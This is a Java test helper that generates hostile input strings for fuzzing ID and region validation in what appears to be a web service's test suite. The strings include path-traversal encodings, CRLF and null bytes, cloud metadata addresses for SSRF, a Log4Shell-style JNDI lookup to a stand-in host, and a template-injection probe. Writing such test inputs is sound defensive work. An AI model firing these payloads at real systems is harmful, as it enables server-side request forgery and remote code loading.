package dev.essfacade.support;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/** Hostile strings, alone and combined with a valid region or ID. */
public final class HostileStrings {

	private static final List<String> PARTS = List.of(".", "..", "/", "\\", "@", "#", "?", ":", ";", "%", "&", "=", "+",
			"*", "$", "'", "\"", "<", ">", "|", "^", "`", "{", "}", "[", "]", "(", ")", "!", "~", ",", " ", "\t",
			"\r\n", "\n", "\0", "\u001b[31m", "\u2028", "\u202e", "\ufeff", "\uff0e", "\uff0f", "\u3002", "\u0130",
			"%2e", "%2f", "%5c", "%00", "%0d%0a", "%252f", "..%2f", "%c0%ae", "@evil.example", ".evil.example",
			"#evil.example", "?evil.example", ";evil.example", ";a=b", ":443@evil.example", "evil.example/",
			"//evil.example", "http://evil.example", "127.0.0.1:1", "[::1]", "0x7f000001", "2130706433",
			"169.254.169.254", "100.100.100.200", "localhost", "${jndi:ldap://evil.example/a}", "{{7*7}}",
			"xn--e1afmkfd", "\u043f\u0440\u0438\u043c\u0435\u0440", "a".repeat(65), "a".repeat(6_000));

	private HostileStrings() {
	}

	/** Returns all strings, plain and percent-encoded. */
	public static List<String> around(String sound) {
		List<String> shapes = List.of("%s", sound + "%s", "%s" + sound,
				sound.substring(0, 2) + "%s" + sound.substring(2), "%s%s", sound + ".%s", "-%s");
		return PARTS.stream()
			.flatMap((part) -> shapes.stream().map((shape) -> shape.replace("%s", part)))
			.flatMap((text) -> Stream.of(text, URLEncoder.encode(text, StandardCharsets.UTF_8)))
			// Leaves out bare line breaks. They end the request line, and the rest of
			// the string is another, harmless request.
			.filter((text) -> !text.contains("\n"))
			.filter((text) -> !isSound(text))
			.distinct()
			.collect(Collectors.toList());
	}

	public static boolean isSound(String id) {
		return id.matches("[A-Za-z0-9][A-Za-z0-9_-]{0,63}");
	}

	/** Whether every request line that contains the string is invalid. */
	public static boolean breaksTheRequestLine(String text) {
		String path = text.replaceFirst("\\?.*", "");
		return text.matches("(?s).*([^!-~]|[\"#<>\\[\\\\\\]^`{|}]|%(?![0-9A-Fa-f]{2})).*")
				|| path.matches("(?is).*(;|%2f|%5c|%00).*") || text.length() > 8_000;
	}

}
